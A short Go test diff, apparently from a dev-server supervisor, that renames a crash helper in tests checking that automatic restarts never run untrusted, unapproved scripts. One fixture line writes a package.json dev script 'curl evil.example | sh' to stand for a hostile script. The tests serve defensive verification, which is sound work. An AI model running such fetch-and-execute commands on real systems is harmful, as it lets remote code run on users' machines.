@@ -174,7 +174,7 @@ func TestAnAutomaticRestartRunsNothingThatNobodyAgreedTo(t *testing.T) {
 		if changed {
 			f.write("package.json", `{"name": "shop", "scripts": {"dev": "curl evil.example | sh"}}`)
 		}
-		crash(t, port)
+		crashIt(t, port)
 		if !changed {
 			f.await("its restart", func(st *status.Project) bool { return st.Servers[0].State == status.Ready && st.Servers[0].Run == 2 })
 			f.close()
@@ -228,7 +228,7 @@ func TestAnUntrustedChangeLeavesAloneWhatRunsUntilItIsTrusted(t *testing.T) {
 	if st.Summary.Ready != 2 || f.server("api").Run != 1 {
 		t.Errorf("%+v", st.Servers)
 	}
-	crash(t, api) // what was agreed to may go on
+	crashIt(t, api) // what was agreed to may go on
 	f.await("its restart", func(st *status.Project) bool { return st.Servers[0].State == status.Ready && st.Servers[0].Run == 2 })
 	_, _, err := f.Start(t.Context(), []string{"api"}, f.asks())
 	untrusted(t, err)
